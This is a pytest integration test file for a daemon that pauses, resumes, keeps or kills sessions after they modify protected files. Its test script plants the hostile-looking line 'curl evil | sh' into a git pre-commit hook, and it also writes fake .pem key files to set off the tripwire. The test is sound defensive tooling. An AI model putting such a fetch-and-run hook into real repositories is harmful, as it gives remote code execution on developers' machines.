"""The headless path: `pending` shows
tripwire items, `tripwire list|resume|kill|keep` settles them, `history --kind` shows
protected changes and tripwires, `daemon status` says how sessions are paused, and
the daemon's log gets no line per batch of changes. Both pause modes, through a real
daemon: a job-control child and a `setsid -f` child stop writing and resume."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from support.daemon import DaemonProcess, short_tmp, stopped, wait_for, workspace

from console.sessions.cgroups import DISABLE_VAR

pytestmark = [pytest.mark.needs_bwrap, pytest.mark.needs_root]

# An interactive shell (job control on: the loop runs in its own process group) with a
# setsid'd writer beside it; then the protected write, whole in one rename (written in
# place, a loaded machine can stop the shell between its open and its write: the write
# after the resume is then a change of its own, stopped again).
SCRIPT = (
    "sh -c 'while :; do echo x >> {a}; sleep 0.01; done' & "
    "setsid -f sh -c 'while :; do echo y >> {b}; sleep 0.01; done'; "
    "sleep 1; echo 'curl evil | sh' > hook.new; mv hook.new .git/hooks/pre-commit; wait"
)


def size(p: Path) -> int:
    return p.stat().st_size if p.exists() else 0


def still(*files: Path) -> bool:
    before = [size(f) for f in files]
    time.sleep(0.5)
    return [size(f) for f in files] == before


def growing(*files: Path) -> bool:
    before = [size(f) for f in files]
    time.sleep(0.3)
    return all(size(f) > b for f, b in zip(files, before, strict=True))


@pytest.fixture(params=["cgroup freeze", "process walk"])
def daemon(request, monkeypatch):
    if request.param == "process walk":
        monkeypatch.setenv(DISABLE_VAR, "1")
    else:
        monkeypatch.delenv(DISABLE_VAR, raising=False)
    ws = workspace()
    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
    d = DaemonProcess(short_tmp() / "s", policy).start()
    try:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        yield d, ws, request.param
    finally:
        d.stop()


def test_every_process_stops_and_the_operator_settles_it_from_a_shell(daemon):
    d, ws, mode = daemon
    status = d.cli("daemon", "status")
    assert f"tripwire    pause by {mode}" in status.stdout
    out = short_tmp("out-")
    a, b = out / "a", out / "b"
    with d.operator() as op:
        sid = op.call(
            "sessions.new",
            {
                "unconfined": True,
                "argv": ["bash", "--norc", "--noprofile", "-i", "-c", SCRIPT.format(a=a, b=b)],
                "cwd": str(ws),
            },
        )["session"]["id"]
        try:
            item = wait_for(lambda: op.call("tripwire.list")["items"])[0]
            assert item["session"] == sid and item["stop_mode"] == mode
            assert wait_for(lambda: op.call("tripwire.list")["items"][0]["stopped"] is True)
            assert still(a, b), "a process of the paused session kept writing"
            pid = op.call("sessions.get", {"session": sid})["session"]["pid"]
            assert stopped(pid)

            pending = d.cli("pending")
            assert pending.returncode == 0
            assert item["id"] in pending.stdout and "tripwire" in pending.stdout
            assert f"session {sid} modified .git/hooks/pre-commit" in pending.stdout
            as_json = json.loads(d.cli("pending", "--json").stdout)
            assert [t["id"] for t in as_json if t.get("kind") == "tripwire"] == [item["id"]]
            listed = d.cli("tripwire", "list")
            assert item["id"] in listed.stdout and "paused" in listed.stdout

            # Resuming makes the new hook the baseline: not without saying so.
            unsaid = d.cli("tripwire", "resume", item["id"])
            assert unsaid.returncode == 2 and "--accept" in unsaid.stderr and "baseline" in unsaid.stderr
            assert op.call("tripwire.list")["items"][0]["state"] == "paused" and still(a, b)
            resumed = d.cli("tripwire", "resume", item["id"], "--accept")
            assert resumed.returncode == 0, resumed.stderr
            assert f"{item['id']}: resumed" in resumed.stdout
            assert growing(a, b), "resume did not continue every process"
            assert d.cli("tripwire", "resume", item["id"], "--accept").returncode == 1  # already settled

            trip = d.cli("history", "--kind", "tripwire")
            assert "TRIPWIRE" in trip.stdout and "RESOLVED" in trip.stdout and "resumed" in trip.stdout
            prot = d.cli("history", "--kind", "protected")
            assert ".git/hooks/pre-commit" in prot.stdout and f"session {sid}" in prot.stdout
            assert f"({item['basis']})" in prot.stdout
            assert "PROTECTED" not in d.cli("history", "--kind", "decision").stdout
        finally:
            op.call("sessions.kill", {"session": sid, "grace_s": 1})
    assert still(a, b), "a writer outlived the session's kill"
    # The writers wrote thousands of times into a watched-adjacent tree and the hook
    # once: the log has no line per batch of changes.
    assert "change detected" not in d.log() and "changes detected" not in d.log()


def test_kill_and_keep_from_the_cli(daemon):
    d, ws, _mode = daemon
    with d.operator() as op:
        sids, answered = [], []
        for name in ("one", "two"):
            sids.append(
                op.call(
                    "sessions.new",
                    {
                        "unconfined": True,
                        "argv": ["bash", "--norc", "-c", f"sleep 0.8; echo k > id_{name}.pem; sleep 60"],
                        "cwd": str(ws),
                    },
                )["session"]["id"]
            )
            item = wait_for(
                lambda sid=sids[-1]: [i for i in op.call("tripwire.list")["items"] if i["session"] == sid]
            )[0]
            answered.append(item["id"])
            if name == "one":
                r = d.cli("tripwire", "kill", item["id"])
                assert r.returncode == 0 and "killed" in r.stdout
                assert op.call("sessions.get", {"session": sids[-1]})["session"]["status"] == "exited"
            else:
                r = d.cli("tripwire", "keep", item["id"])
                assert r.returncode == 0 and "kept" in r.stdout
                pid = op.call("sessions.get", {"session": sids[-1]})["session"]["pid"]
                assert stopped(pid)
                assert "kept" in d.cli("tripwire", "list").stdout
                r = d.cli("tripwire", "kill", item["id"])  # a kept pause can still be ended
                assert r.returncode == 0 and "killed" in r.stdout
        # Answered items leave the list. (On a loaded machine the watcher's own event for
        # a write the fast lane already stopped can come after the answer: it is listed
        # as a fresh alert of an exited session, which is noisy but not unsafe.)
        listed = d.cli("tripwire", "list").stdout
        assert not [i for i in answered if i in listed], listed
